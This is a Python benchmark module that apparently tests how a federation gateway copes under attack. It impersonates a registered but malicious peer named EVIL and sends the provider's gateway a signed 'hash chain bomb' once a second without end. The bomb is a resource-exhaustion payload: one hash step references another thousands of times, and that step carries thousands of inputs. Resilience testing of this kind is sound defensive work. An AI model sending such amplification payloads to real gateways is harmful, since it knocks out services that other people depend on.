"""A registered peer gone bad: ``python -m benchmarks.peerbomb BASE FOLDER`` sends the provider's gateway a signed hash chain bomb
a second until it is ended, and says a line for each what came of it.

Part of `benchmarks.underattack`. The keys are those of the gateway EVIL of that federation.
"""

from __future__ import annotations

import asyncio
import base64
import re
import sys
import uuid
from datetime import UTC, datetime
from pathlib import Path

import aiohttp
from cryptography import x509

from certs.algorithms import SignatureAlgorithm, der_to_raw
from certs.dev.authority import DevPki
from certs.dev.responder import ocsp_reply
from certs.edges.tokenfiles import TokenFolder
from certs.tls import TlsCredentials, peer_client_context
from certs.tokens.port import SigningIdentity
from certs.tokens.soft import SoftToken
from certs.verify import ocsp
from schemas import hashchain, rest, xades
from schemas.identifiers import ClientId
from schemas.message import digest_of
from schemas.transport import ProxyMessageWriter

CLIENT = "MX/GOB/EVIL/SYS"


def chain_bomb() -> tuple[bytes, bytes]:
    """A result and a chain of a megabyte: a step that refers thousands of times to another with thousands of inputs."""
    value = base64.b64encode(b"1" * 64).decode()
    head = f'xmlns:h="{hashchain.HASH_CHAIN_NS}" xmlns="{hashchain.DS_NS}"'
    method = f'Algorithm="{hashchain.SHA512_URI}"'
    data = f'<h:DataRef URI="/message.xml"><DigestValue>{value}</DigestValue></h:DataRef>'
    references = '<h:StepRef URI="#S1"/>' * 4_000
    inputs = "<h:HashValue><DigestValue>YQ==</DigestValue></h:HashValue>" * 14_000
    chain = (
        f'<h:HashChain {head}><h:DefaultDigestMethod {method}/><h:HashStep id="S0">{references}{data}</h:HashStep>'
        f'<h:HashStep id="S1">{inputs}</h:HashStep></h:HashChain>'
    )
    result = (
        f'<h:HashChainResult {head} URI="{hashchain.SIGNATURE_CHAIN_URI}#S0">'
        f"<DigestMethod {method}/><DigestValue>{value}</DigestValue></h:HashChainResult>"
    )
    return result.encode(), chain.encode()


class Peer:
    """The keys of the peer, and what it sends."""

    def __init__(self, base: str, folder: Path) -> None:
        self._pki = DevPki.open(folder / "trust")
        self._address = f"https://{base}.11:5500/"
        self._token = SoftToken(TokenFolder(folder / "EVIL" / "token"))
        self._token.unlock((folder / "pin").read_text().strip())
        self._auth, self._sign = (
            x509.load_pem_x509_certificate((folder / f"EVIL-{usage}.pem").read_bytes())
            for usage in ("auth", "sign")
        )
        key = self._token.find_key(self._auth.public_key())
        assert key is not None
        self._tls = peer_client_context(TlsCredentials(self._token.tls_private_key(key), (self._auth,)))
        self._bomb = chain_bomb()

    def _ocsp(self, certificate: x509.Certificate) -> bytes:
        return ocsp_reply(
            self._pki, ocsp.build_request(certificate, self._pki.intermediate), datetime.now(UTC)
        )

    def _signature(self, content: bytes) -> bytes:
        """A signature over a result: all of it is right but where the chain leads."""
        key = self._token.find_key(self._sign.public_key())
        assert key is not None
        algorithm = SignatureAlgorithm.for_key(self._sign.public_key())
        member = ClientId(*CLIENT.split("/")).member
        identity = SigningIdentity(member, key, self._sign, (), algorithm)
        moment = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")
        draft = xades.build_to_be_signed(
            xades.HASH_CHAIN_RESULT_URI, digest_of(content), identity.facts, moment, algorithm.uri
        )
        value = self._token.sign_now(key, algorithm.digest.digest(draft.signed_info), algorithm)
        return draft.finish(der_to_raw(value, 256), (self._ocsp(self._sign),), ())

    def message(self) -> tuple[dict[str, str], bytes]:
        """The headers and the body of one message with a bomb."""
        request_id = str(uuid.uuid4())
        request = rest.build_request(
            "GET",
            "/r1/MX/GOB/PROV/SYS/echo/x",
            [("X-Road-Client", CLIENT), ("X-Road-Id", request_id)],
            instance="MX",
            new_id=lambda: request_id,
        )
        result, chain = self._bomb
        writer = ProxyMessageWriter(f"xtop{request_id.replace('-', '')[:30]}")
        body = b"".join(
            (
                writer.ocsp(self._ocsp(self._auth)),
                writer.rest(request.raw, is_response=False),
                writer.hash_chain_result(result),
                writer.hash_chain(chain),
                writer.signature(self._signature(result)),
                writer.close(),
            )
        )
        headers = {
            "content-type": writer.content_type,
            "x-hash-algorithm": "SHA-512",
            "x-road-message-type": "REST",
            "x-road-request-id": request_id,
        }
        return headers, body

    async def send(self) -> None:
        """A bomb a second, until this process is ended."""
        async with aiohttp.ClientSession() as session:
            while True:
                headers, body = self.message()
                async with session.post(self._address, data=body, headers=headers, ssl=self._tls) as answer:
                    body_text = await answer.read()
                code = re.search(rb"<faultcode>([^<]*)", body_text)
                print(code[1].decode() if code else body_text[:100], flush=True)
                await asyncio.sleep(1)


if __name__ == "__main__":
    asyncio.run(Peer(sys.argv[1], Path(sys.argv[2])).send())
